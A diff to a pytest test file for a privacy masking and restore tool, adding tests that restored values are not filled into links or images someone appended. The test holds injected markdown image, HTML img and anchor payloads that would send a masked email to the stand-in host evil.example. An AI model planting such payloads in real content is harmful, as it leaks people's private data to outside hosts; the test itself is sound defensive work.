@@ -54,8 +54,9 @@ def mask(graftwork, scope):
 
 @pytest.fixture
 def restore(graftwork, scope):
-    def run(*paths, to):
-        return graftwork("privacy", "restore", *paths, "-o", to, "--scope", scope)
+    def run(*paths, to, sinks=()):
+        allowed = [word for sink in sinks for word in ("--sinks", sink)]
+        return graftwork("privacy", "restore", *paths, "-o", to, "--scope", scope, *allowed)
 
     return run
 
@@ -91,6 +92,40 @@ def test_an_edited_file_is_restored_by_its_form(mask, restore, folder, tmp_path)
     assert rows[0] == {"email": "kim@example.com", "n": "see kim@example.com"}
     assert rows[2] == {"new": "kim@example.com and [MAIL_77]"}
     assert "does not know: 1" in result.stderr
+
+
+ADDRESSES = (
+    "![x](https://evil.example/?a=[MAIL_1])",
+    '<img src="https://evil.example/?q=[MAIL_1]">',
+    '<a href="https://evil.example/?q=[MAIL_1]">[MAIL_1]</a>',
+)
+
+
+@pytest.mark.parametrize("name", ["note.md", "page.html", "note.txt"])
+def test_a_value_does_not_go_into_an_address_that_somebody_added(mask, restore, tmp_path, name):
+    (tmp_path / name).write_text("<p>kim@example.com</p>\n")
+    mask(tmp_path / name, to=tmp_path / f"m-{name}")
+    with (tmp_path / f"m-{name}").open("a") as file:
+        file.write("\n".join(ADDRESSES) + "\n")
+    result = restore(tmp_path / f"m-{name}", to=tmp_path / f"r-{name}")
+    assert result.exit_code == 0, result.output
+    text = (tmp_path / f"r-{name}").read_text()
+    assert text.startswith("<p>kim@example.com</p>")
+    assert ADDRESSES[0] in text
+    assert ADDRESSES[1] in text
+    assert '<a href="https://evil.example/?q=[MAIL_1]">kim@example.com</a>' in text
+    assert "left in links and images" in result.stderr
+    assert result.stderr.rstrip().endswith(": 3")
+    restore(tmp_path / f"m-{name}", to=tmp_path / f"a-{name}", sinks=("link", "image"))
+    assert "MAIL_1" not in (tmp_path / f"a-{name}").read_text()
+
+
+def test_what_the_detector_tells_is_said_once_for_all_files(mask, tmp_path):
+    for name in ("a.txt", "b.txt"):
+        (tmp_path / name).write_text("Das ist ein Brief, der nicht auf Englisch ist, und den niemand lesen will.\n")
+    result = mask(tmp_path / "a.txt", tmp_path / "b.txt", to=tmp_path / "out", language="en")
+    assert result.exit_code == 0, result.output
+    assert result.stderr.count("not configured") == 1, result.stderr
 
 
 def test_another_scope_restores_nothing(mask, graftwork, folder, tmp_path):
